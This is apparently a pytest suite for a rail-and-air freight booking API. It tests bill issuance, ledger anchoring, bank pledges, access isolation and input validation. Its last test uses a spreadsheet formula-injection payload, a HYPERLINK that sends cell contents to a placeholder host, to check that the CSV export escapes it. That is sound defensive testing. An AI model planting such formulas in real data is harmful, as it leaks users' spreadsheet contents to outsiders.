"""p14 over the API: one booking, one payment, one issued bill anchored in the ledger; tracking
and hand-overs; the bill as collateral (a pledged bill cannot be amended or surrendered without
the bank); who sees what (another shipper's bill answers 404 on every route; a bank sees only
the bills offered to it); bad input as RFC 9457 problems naming the field."""

from __future__ import annotations

import csv
import hashlib
import io
import json

from sqlalchemy.orm import Session

from ftz.core.ledger import service as ledger
from ftz.core.ledger import store
from tests.conftest import ApiClients
from tests.practices.asia_europe_transport.conftest import (
    API,
    REEFER_BOX,
    booking_body,
    issued_bill,
)


def test_book_pay_issue_track_and_surrender(aet: ApiClients, session: Session) -> None:
    shipper, operator = aet.as_("aet.shipper"), aet.as_("aet.operator")
    made = shipper.post(f"{API}/bills", json=booking_body())
    assert made.status_code == 201, made.text
    bill = made.json()
    assert bill["status"] == "booked" and bill["priority"] == "priority"
    assert [leg["service"] for leg in bill["legs"]] == ["lmrq_express_north",
                                                        "cr_express_chengdu_lodz"]  # fmt: skip
    assert float(bill["freight_cny"]) == 2 * (9800 + 22000) and bill["teu"] == 2
    assert {r["row_id"] for r in bill["fired"]} >= {"PS-REEFER", "TP-VC-OK", "TP-CE-OK"}
    url = f"{API}/bills/{bill['id']}"
    assert operator.post(f"{url}/issue").status_code == 409  # not paid yet: one payment first
    assert shipper.post(f"{url}/pay", json={"payment_ref": "95306-1"}).json()["status"] == "paid"
    issued = operator.post(f"{url}/issue").json()
    assert issued["status"] == "issued" and issued["ledger_index"] is not None
    document = shipper.get(f"{url}/document").json()
    digest = hashlib.sha256(ledger.canonical(document["document"])).hexdigest()
    assert digest == issued["sha256"] == document["sha256"]
    assert document["document"]["transportDocumentID"] == issued["number"]

    def event(**body: str) -> dict[str, object]:
        response = operator.post(f"{url}/events", json=body)
        assert response.status_code == 201, response.text
        return response.json()  # type: ignore[no-any-return]

    gate = event(kind="gate_in", node="vientiane_south", container=REEFER_BOX, seal="S1")
    assert gate["handover"] and gate["ledger_index"] is not None
    assert event(kind="departed", node="vientiane_south")["ledger_index"] is None
    assert shipper.get(url).json()["status"] == "in_transit"
    handover = event(kind="handover", node="chengdu_qingbaijiang", carrier_from="LCR",
                     carrier_to="CR Chengdu")  # fmt: skip
    assert handover["ledger_index"] > gate["ledger_index"]
    assert event(kind="arrived", node="lodz_olechow")["ledger_index"] is not None
    assert len(shipper.get(f"{url}/events").json()) == 4
    done = shipper.post(f"{url}/surrender")
    assert done.status_code == 200 and done.json()["status"] == "surrendered"
    history = shipper.get(f"{url}/history").json()
    assert any(h["action"] == "transition:surrender" for h in history)
    assert shipper.get(f"{API}/bills", params={"q": "durian"}).json()["total"] == 1
    csv = shipper.get(f"{API}/bills.csv")
    assert csv.status_code == 200 and issued["number"] in csv.text


def test_pledged_bill_is_locked_until_the_bank_releases(aet: ApiClients) -> None:
    bill = issued_bill(aet)
    url = f"{API}/bills/{bill['id']}"
    shipper, bank, operator = aet.as_("aet.shipper"), aet.as_("aet.bank"), aet.as_("aet.operator")
    assert bank.get(url).status_code == 404  # not offered to this bank yet
    offer = shipper.post(
        f"{url}/finance", json={"action": "request_pledge", "bank_code": "aet-bank"}
    )
    assert offer.status_code == 200 and offer.json()["pledge"] == "requested"
    assert bank.get(f"{API}/bills").json()["total"] == 1
    refused = shipper.post(f"{url}/finance", json={"action": "accept_pledge"})
    assert refused.status_code == 409  # only the bank accepts
    assert (
        bank.post(f"{url}/finance", json={"action": "accept_pledge"}).json()["pledge"] == "pledged"
    )
    locked = shipper.post(f"{url}/amend", json={"consignee": "Somebody else"})
    assert locked.status_code == 409 and "pledged" in locked.json()["detail"]
    for kind, node in (("departed", "vientiane_south"), ("arrived", "lodz_olechow")):
        assert operator.post(f"{url}/events", json={"kind": kind, "node": node}).status_code == 201
    assert shipper.post(f"{url}/surrender").status_code == 409
    to_bank = bank.post(f"{url}/amend", json={"consignee": "TO ORDER OF THE BANK"})
    assert to_bank.status_code == 200 and to_bank.json()["consignee"] == "TO ORDER OF THE BANK"
    assert (
        bank.post(f"{url}/finance", json={"action": "release_pledge"}).json()["pledge"]
        == "released"
    )
    done = shipper.post(f"{url}/surrender")
    assert done.status_code == 200, done.text
    assert {r["row_id"] for r in done.json()["fired"]} >= {
        "BA-PLEDGED-BANK",
        "BA-RELEASE",
        "BA-FREE",
    }


def test_other_organizations_get_404_everywhere(aet: ApiClients) -> None:
    bill = issued_bill(aet)
    url = f"{API}/bills/{bill['id']}"
    other = aet.as_("aet.forwarder")
    for path in ("", "/document", "/events", "/history"):
        assert other.get(f"{url}{path}").status_code == 404, path
    posts = {
        "/pay": {"payment_ref": "XXXX"},
        "/cancel": None,
        "/amend": {"consignee": "Me"},
        "/surrender": None,
        "/finance": {"action": "request_pledge", "bank_code": "aet-bank"},
    }
    for path, body in posts.items():
        assert other.post(f"{url}{path}", json=body).status_code == 404, path
    assert other.get(f"{API}/bills").json()["total"] == 0
    assert aet.as_("ent.a").get(url).status_code == 404
    assert aet.as_("emergency.officer").get(url).status_code == 404  # an unrelated agency
    assert aet.as_("ent.a").post(f"{url}/issue").status_code == 403  # enterprises never issue
    assert aet.as_("aet.bank").post(f"{url}/events", json={"kind": "status", "node": "dostyk"}
                                    ).status_code == 403  # fmt: skip
    assert aet.anonymous().get(f"{API}/bills").status_code == 401


def test_bad_input_names_the_field(aet: ApiClients) -> None:
    shipper = aet.as_("aet.shipper")
    bad_box = booking_body(containers=[{"number": "CSQU3054384", "size": 40}], cargo="general")
    response = shipper.post(f"{API}/bills", json=bad_box)
    assert response.status_code == 422
    assert response.headers["content-type"].startswith("application/problem+json")
    assert any("containers" in e["field"] for e in response.json()["errors"])
    warm = booking_body(containers=[{"number": "CSQU3054383", "size": 40}])
    assert shipper.post(f"{API}/bills", json=warm).json()["errors"][0]["field"] == "containers"
    unknown = shipper.post(f"{API}/bills", json=booking_body(corridor="MARS"))
    assert unknown.status_code == 422 and unknown.json()["errors"][0]["field"] == "corridor"
    bill = issued_bill(aet)
    operator = aet.as_("aet.operator")
    nowhere = operator.post(
        f"{API}/bills/{bill['id']}/events", json={"kind": "status", "node": "x"}
    )
    assert nowhere.status_code == 422 and nowhere.json()["errors"][0]["field"] == "node"
    half = operator.post(
        f"{API}/bills/{bill['id']}/events",
        json={"kind": "handover", "node": "dostyk", "carrier_from": "KTZ"},
    )
    assert half.status_code == 422 and half.json()["errors"][0]["field"] == "carrier_to"
    no_bank = shipper.post(
        f"{API}/bills/{bill['id']}/finance", json={"action": "request_pledge", "bank_code": "ent-a"}
    )
    assert no_bank.status_code == 422 and no_bank.json()["errors"][0]["field"] == "bank_code"


def test_quote_corridors_and_reefer_plans(aet: ApiClients, session: Session) -> None:
    shipper, operator = aet.as_("aet.shipper"), aet.as_("aet.operator")
    corridors = shipper.get(f"{API}/corridors").json()
    assert {c["code"] for c in corridors["corridors"]} == {"LMRO", "CDLOD", "LODLMR", "DACLOD"}
    quote = shipper.get(f"{API}/quote", params={"corridor": "DACLOD",
                                                "depart_at": "2026-12-07T01:00:00Z"})  # fmt: skip
    assert quote.status_code == 200 and quote.json()["variant"] == "air_rail"
    params = operator.get(f"{API}/reefer/parameters").json()
    assert any(d["overseas_return"] for d in params["depots"])
    made = operator.post(f"{API}/reefer/plans", json=params["scenario"])
    assert made.status_code == 201 and made.json()["saving_cny"] == 648_170
    mine = shipper.post(
        f"{API}/reefer/plans", json={"horizon_days": 7, "stock": {"lodz_olechow": 5}, "demand": {}}
    )
    assert mine.status_code == 201
    assert shipper.get(f"{API}/reefer/plans/{made.json()['id']}").status_code == 404
    assert operator.get(f"{API}/reefer/plans").json()["total"] == 2
    assert shipper.get(f"{API}/reefer/plans").json()["total"] == 1
    bad = operator.post(f"{API}/reefer/plans", json={"stock": {"mars": 1}, "demand": {}})
    assert bad.status_code == 422 and bad.json()["errors"][0]["field"] == "stock.mars"
    assert aet.as_("emergency.officer").get(f"{API}/bills").json()["total"] == 0


def test_issue_and_hand_overs_are_in_the_evidence_log(aet: ApiClients, session: Session) -> None:
    bill = issued_bill(aet)
    _, entry, ref = store.get_leaf(session, ledger.EVIDENCE_LOG, bill["ledger_index"])
    anchored = json.loads(entry)
    assert anchored["type"] == "asia_europe_transport.bill_issued"
    assert anchored["sha256"] == bill["sha256"] and ref == f"aet-bill:{bill['id']}"
    handover = aet.as_("aet.operator").post(
        f"{API}/bills/{bill['id']}/events",
        json={"kind": "border_crossed", "node": "alashankou", "carrier_from": "CR",
              "carrier_to": "KTZ", "container": REEFER_BOX},
    ).json()  # fmt: skip
    _, entry, _ = store.get_leaf(session, ledger.EVIDENCE_LOG, handover["ledger_index"])
    assert json.loads(entry) == {**json.loads(entry), "bill_sha256": bill["sha256"],
                                 "node": "alashankou", "from": "CR", "to": "KTZ"}  # fmt: skip


def test_the_export_never_hands_a_spreadsheet_a_formula(aet: ApiClients) -> None:
    """A consignee typed as a formula is exported quoted, so a spreadsheet shows it as text."""
    typed = '=HYPERLINK("http://x.example/?q="&A1,"open")'
    bill = issued_bill(aet, consignee=typed)
    exported = aet.as_("aet.shipper").get(f"{API}/bills.csv").text
    [row] = [r for r in csv.DictReader(io.StringIO(exported.lstrip("\ufeff")))
             if r["number"] == bill["number"]]  # fmt: skip
    assert row["consignee"] == "'" + typed
